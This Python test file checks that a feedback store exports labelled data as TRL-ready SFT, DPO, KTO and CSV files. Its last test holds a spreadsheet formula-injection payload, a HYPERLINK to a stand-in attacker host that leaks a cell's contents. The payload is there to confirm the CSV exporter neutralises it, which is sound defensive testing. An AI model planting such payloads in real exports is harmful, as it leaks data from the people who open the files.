"""Exports load with `datasets` and carry exactly the columns TRL's SFT / DPO / KTO trainers read."""

from __future__ import annotations

import csv
import json

import datasets
import pytest
from trl.data_utils import is_conversational, maybe_apply_chat_template

from llmplay.feedback import store as fs
from llmplay.feedback.exports import export_file, export_rows, provenance_path, to_text
from llmplay.settings import Settings
from tests.conftest import CHAT_MODEL

CHAT = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Capital of France?"}]


@pytest.fixture()
def queues(db):
    """One queue per task with accepted (k = 1) answers; returns {name: [items]}."""
    out = {}
    fs.create_queue(db, "fix", "correction")
    out["fix"] = [
        fs.add_item(db, "fix", source="t", prompt="2+2?", output="5")[0],
        fs.add_item(db, "fix", source="t", prompt=CHAT, output="Paris.")[0],
    ]
    fs.respond(db, out["fix"][0].id, "ann", "4")
    fs.respond(db, out["fix"][1].id, "ann", "Paris.  ")  # same as the reply after whitespace collapse

    fs.create_queue(db, "stars", "rating", rating_min=1, rating_max=5)
    out["stars"] = [fs.add_item(db, "stars", source="t", prompt=f"q{n}", output=f"reply {n}")[0] for n in range(3)]
    for item, rating in zip(out["stars"], (5, 3, 1)):
        fs.respond(db, item.id, "ann", rating)

    fs.create_queue(db, "prefs", "preference")
    out["prefs"] = [
        fs.add_item(db, "prefs", source="t", prompt=f"p{n}", output=f"A{n}", output_b=f"B{n}")[0] for n in range(3)
    ]
    for item, choice in zip(out["prefs"], ("a", "b", "tie")):
        fs.respond(db, item.id, "ann", choice)

    fs.create_queue(db, "topic", "label", labels=["sport", "news"])
    out["topic"] = [fs.add_item(db, "topic", source="t", prompt="Goal in the 90th minute.")[0]]
    fs.respond(db, out["topic"][0].id, "ann", "sport")
    fs.add_item(db, "topic", source="t", prompt="Not answered yet.")  # not accepted: not exported
    return out


def _load(path, tmp_path):
    return datasets.load_dataset("json", data_files=str(path), split="train", cache_dir=str(tmp_path / "hf"))


def test_sft_rows_are_chat_messages_with_the_accepted_answer(db, queues):
    fix = export_rows(db, "fix", "sft")
    assert fix.rows == [
        {"messages": [{"role": "user", "content": "2+2?"}, {"role": "assistant", "content": "4"}]},
        {"messages": [*CHAT, {"role": "assistant", "content": "Paris.  "}]},
    ]
    assert fix.item_ids == [i.id for i in queues["fix"]]
    stars = export_rows(db, "stars", "sft")  # only the top half of the scale
    assert [r["messages"][-1]["content"] for r in stars.rows] == ["reply 0"]
    assert stars.skipped == {"rating not in the top half": 2}
    prefs = export_rows(db, "prefs", "sft")
    assert [r["messages"][-1]["content"] for r in prefs.rows] == ["A0", "B1"] and prefs.skipped == {"tie": 1}
    topic = export_rows(db, "topic", "sft")
    assert topic.rows == [
        {
            "messages": [
                {"role": "user", "content": "Goal in the 90th minute."},
                {"role": "assistant", "content": "sport"},
            ]
        }
    ]


def test_dpo_rows_pick_chosen_and_rejected(db, queues):
    prefs = export_rows(db, "prefs", "dpo")  # every prompt a string: the standard layout
    assert prefs.layout == "standard"
    assert prefs.rows == [
        {"prompt": "p0", "chosen": "A0", "rejected": "B0"},
        {"prompt": "p1", "chosen": "B1", "rejected": "A1"},
    ]
    fix = export_rows(db, "fix", "dpo")  # a chat prompt in the queue: conversational for every row
    assert fix.layout == "conversational"
    assert fix.rows == [
        {
            "prompt": [{"role": "user", "content": "2+2?"}],
            "chosen": [{"role": "assistant", "content": "4"}],
            "rejected": [{"role": "assistant", "content": "5"}],
        }
    ]
    assert fix.skipped == {"correction same as the reply": 1}
    with pytest.raises(fs.FeedbackError, match="DPO exports come from preference or correction queues"):
        export_rows(db, "topic", "dpo")
    with pytest.raises(fs.FeedbackError, match="has chat prompts"):
        export_rows(db, "fix", "dpo", layout="standard")


def test_kto_rows_label_desirable_and_undesirable_replies(db, queues):
    stars = export_rows(db, "stars", "kto")
    assert [(r["completion"], r["label"]) for r in stars.rows] == [("reply 0", True), ("reply 2", False)]
    assert stars.skipped == {"rating at the middle of the scale": 1}
    fix = export_rows(db, "fix", "kto", layout="conversational")
    assert [(r["completion"][0]["content"], r["label"]) for r in fix.rows] == [
        ("4", True),
        ("5", False),
        ("Paris.  ", True),  # a correction equal to the reply: the reply was right
    ]
    assert fix.item_ids == [queues["fix"][0].id, queues["fix"][0].id, queues["fix"][1].id]
    prefs = export_rows(db, "prefs", "kto")
    assert [(r["prompt"], r["completion"], r["label"]) for r in prefs.rows] == [
        ("p0", "A0", True),
        ("p0", "B0", False),
        ("p1", "B1", True),
        ("p1", "A1", False),
    ]


@pytest.mark.parametrize(
    ("queue", "fmt", "columns", "rows"),
    [
        ("fix", "sft", ["messages"], 2),
        ("prefs", "dpo", ["prompt", "chosen", "rejected"], 2),
        ("fix", "dpo", ["prompt", "chosen", "rejected"], 1),
        ("stars", "kto", ["prompt", "completion", "label"], 2),
        ("fix", "kto", ["prompt", "completion", "label"], 3),
    ],
)
def test_export_files_load_with_datasets_with_exactly_trls_columns(db, queues, tmp_path, queue, fmt, columns, rows):
    path = tmp_path / "out" / f"{queue}-{fmt}.jsonl"
    export = export_file(db, queue, fmt, path, provenance=True)
    ds = _load(path, tmp_path)
    assert ds.column_names == columns and ds.num_rows == rows
    assert [p.name for p in path.parent.iterdir() if p.name.endswith(".tmp")] == []  # atomic: no temp left
    meta = json.loads(provenance_path(path).read_text())
    assert meta["item_ids"] == export.item_ids and meta["format"] == fmt and len(meta["item_ids"]) == rows
    first = ds[0]
    assert is_conversational(first) == (export.layout == "conversational")
    if fmt == "kto":
        assert isinstance(first["label"], bool)


def test_trl_renders_the_conversational_exports_with_a_real_chat_template(db, queues, tmp_path, engine):
    tokenizer = engine.models.get(engine.catalog.get(CHAT_MODEL)).tokenizer
    for fmt, check in (("sft", "text"), ("dpo", "chosen"), ("kto", "completion")):
        path = tmp_path / f"fix-{fmt}.jsonl"
        export_file(db, "fix", fmt, path)
        row = _load(path, tmp_path)[0]
        rendered = maybe_apply_chat_template(row, tokenizer)
        assert "4" in rendered[check], (fmt, rendered)
        if fmt != "sft":
            assert "2+2?" in rendered["prompt"] and "2+2?" not in rendered[check]


def test_csv_export_has_one_row_per_item_with_each_labelers_response(db, queues, tmp_path):
    item = fs.add_item(db, "topic", source="t", prompt="Election tonight.")[0]
    fs.update_queue(db, "topic", k=2)
    fs.respond(db, item.id, "ann", "news")
    fs.respond(db, item.id, "bob", "news")
    path = tmp_path / "topic.csv"
    export_file(db, "topic", "csv", path)
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert [r["prompt"] for r in rows] == ["Goal in the 90th minute.", "Not answered yet.", "Election tonight."]
    last = rows[-1]
    assert (last["response:ann"], last["response:bob"], last["accepted"], last["accepted_how"]) == (
        "news",
        "news",
        "news",
        "agreement",
    )
    assert rows[1]["accepted"] == "" and rows[0]["response:bob"] == ""
    assert rows[0]["accepted"] == ""  # k is 2 now and only ann answered
    chat_rows = export_rows(db, "fix", "csv").rows
    assert json.loads(chat_rows[1]["messages"]) == CHAT and chat_rows[1]["prompt"].startswith("system: Be brief.")


def test_unknown_format_or_queue_is_a_clear_error(db, queues, tmp_path):
    with pytest.raises(fs.FeedbackError, match="Export format 'parquet' is not one of sft, dpo, kto, csv"):
        export_rows(db, "fix", "parquet")
    with pytest.raises(fs.FeedbackError, match="no feedback queue 'missing'"):
        export_file(db, "missing", "sft", tmp_path / "x.jsonl")
    assert not (tmp_path / "x.jsonl").exists()


# ---- evaluation rows: the template's turns, never the text after a chat template ---------------------------

EVAL_TEMPLATE = (
    "name: yes-no\ntask: classification\nvariables: [text]\nsystem: Answer yes or no.\nbody: 'Is {{ text }} true?'\n"
)
CHAT_TEXT = (
    "<|im_start|>system\nAnswer yes or no.<|im_end|>\n<|im_start|>user\nIs {} true?<|im_end|>\n<|im_start|>assistant\n"
)


def _eval_item(db, text: str, version_id: int | None, row: int) -> fs.Item:
    """An evaluation row as eval_rows.py stored it before items carried meta.messages: the chat-templated text."""
    return fs.add_item(
        db, "eval-fix", source="eval-run:7", prompt=CHAT_TEXT.format(text), output="maybe", input={"text": text},
        template="yes-no", template_version_id=version_id, meta={"run_id": 7, "row": row},
    )[0]  # fmt: skip


def test_evaluation_rows_export_their_templates_turns_or_are_left_out_with_a_reason(db, db_path, tmp_path):
    from llmplay.templates.versions import add_version
    from llmplay.training.data_sources import feedback_records

    version = add_version(db, "yes-no", EVAL_TEMPLATE, "lead", "test")
    fs.create_queue(db, "eval-fix", "correction")
    rebuilt = _eval_item(db, "water wet", version.id, 0)  # the version is stored: its turns are rebuilt
    gone = _eval_item(db, "fire cold", 999_999, 1)  # the version is gone: no turns to train on
    for item, answer in ((rebuilt, "yes"), (gone, "no")):
        fs.respond(db, item.id, "ann", answer)

    turns = [{"role": "system", "content": "Answer yes or no."}, {"role": "user", "content": "Is water wet true?"}]
    sft = export_rows(db, "eval-fix", "sft")
    assert sft.rows == [{"messages": [*turns, {"role": "assistant", "content": "yes"}]}]
    assert sft.item_ids == [rebuilt.id] and list(sft.skipped.values()) == [1]
    assert "template" in next(iter(sft.skipped)), sft.skipped
    dpo, kto = export_rows(db, "eval-fix", "dpo"), export_rows(db, "eval-fix", "kto")
    assert dpo.layout == kto.layout == "conversational" and dpo.rows[0]["prompt"] == turns
    for export in (sft, dpo, kto):
        assert "<|im_start|>" not in to_text(export)

    records = feedback_records(Settings(data_dir=tmp_path))  # training on the feedback store: the same rule
    assert [r["id"] for r in records] == [rebuilt.id] and records[0]["messages"][:-1] == turns


def test_csv_export_writes_formula_cells_as_text_and_jsonl_stays_raw(db, tmp_path):
    """A labeler's ``=HYPERLINK(...)`` (or an item's ``@SUM``/``+``/``-`` text) must not run when an admin opens
    the review CSV in a spreadsheet; the training JSONL keeps the exact text."""
    link = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
    fs.create_queue(db, "fix-csv", "correction")
    item = fs.add_item(db, "fix-csv", source="t", prompt="@SUM(A1:A9)", output="-2+3")[0]
    fs.respond(db, item.id, "lab", link)
    path = tmp_path / "fix.csv"
    export_file(db, "fix-csv", "csv", path)
    row = next(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert (row["prompt"], row["output"], row["response:lab"], row["accepted"]) == (
        "'@SUM(A1:A9)",
        "'-2+3",
        "'" + link,
        "'" + link,
    )
    assert row["item_id"] == str(item.id)

    sft = tmp_path / "fix.jsonl"
    export_file(db, "fix-csv", "sft", sft)
    assert json.loads(sft.read_text(encoding="utf-8"))["messages"][-1]["content"] == link
